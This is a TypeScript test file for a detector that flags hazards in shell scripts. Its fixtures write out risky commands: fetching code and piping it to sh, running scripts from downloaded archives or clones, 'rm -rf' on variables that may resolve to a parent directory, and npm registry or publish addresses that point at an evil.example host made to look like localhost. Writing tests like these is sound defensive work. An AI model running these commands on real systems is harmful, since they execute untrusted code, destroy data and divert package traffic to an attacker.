import { expectHazards } from './seen.ts';

// What an archive held that was unpacked beside the script, and what a clone holds.
expectHazards([
  ['curl -fsSLO https://a.example/data.tgz\ntar xf data.tgz\nbash run.sh', 'runs-download'],
  ['cd ~\ncurl -fsSLO https://a.example/data.tgz\ntar xf data.tgz\n. ./env.sh', 'runs-download'],
  ['wget https://a.example/archive.zip\nunzip archive.zip\n./setup', 'runs-download'],
  ['git clone https://git.example/a/tools.git /tmp/tools\nbash /tmp/tools/install.sh', 'runs-download'],
  ['git clone --depth 1 git@git.example:a/tools.git\ncd tools\n./install.sh', 'runs-download'],
  ['git clone https://git.example/a/tools\npython tools/setup.py', 'runs-download'],
]);

// What is only looked at, what lies elsewhere, and what the script has written itself.
expectHazards([
  [
    'curl -fsSLO https://a.example/data.tgz\nmkdir -p data\ntar xf data.tgz -C data\nbash scripts/train.sh',
    '',
  ],
  ['curl -fsSLO https://a.example/data.tgz\ntar xf data.tgz\npython train.py', ''],
  ['echo "echo hi" > run.sh\ncurl -fsSLO https://a.example/data.tgz\ntar xf data.tgz\nbash run.sh', ''],
  ['tar xf release.tgz\n./run.sh', ''],
  // What is called so has a name of its own for what it holds.
  ['wget https://a.example/images.tgz\ntar xf images.tgz\nbash run.sh images', ''],
  ['git clone https://git.example/a/samples.git\nls samples\ncp -r samples/images .\n./build.sh', ''],
  ['git clone ../own copy\nbash copy/build.sh', ''],
]);

// A variable that was put together keeps what is known of it.
expectHazards([
  ['ROOT="$(git rev-parse --show-toplevel)"\nOUT="$ROOT/out"\nrm -rf "$OUT"', 'deletes'],
  ['DEPS="$(cd -- "$(dirname -- "$0")" && pwd)"\nTEMP="$DEPS/temp"\nrm -rf "$TEMP"', 'deletes'],
  ['RUN="curl -s https://$HOST/x | sh"\neval "$RUN"', 'runs-download'],
  ['FETCH="curl -s https://a.example/$NAME"\n$FETCH | sh', 'runs-download'],
  ['A="$X/.."\nrm -rf "$A"', 'deletes-by-variable'],
  ['B="$X/"\nrm -rf "$B"', 'deletes-by-variable'],
  ['B="$X/"\nrm -rf "$B"*', 'deletes-by-variable'],
  ['export OUT="$ROOT/out"\nrm -rf "$OUT"', 'deletes'],
  ['T=$(mktemp -d)\nsource "$T/venv/bin/activate"', ''],
]);

// A registry of the machine itself, and one of somebody else.
expectHazards([
  ['npm set registry http://localhost:4873/', ''],
  ['npm publish --registry http://127.0.0.1:4873', ''],
  ['npm set registry http://localhost.evil.example/', 'installs-from-address runs-download'],
  ['npm publish --registry http://localhost@evil.example/', 'publishes'],
]);
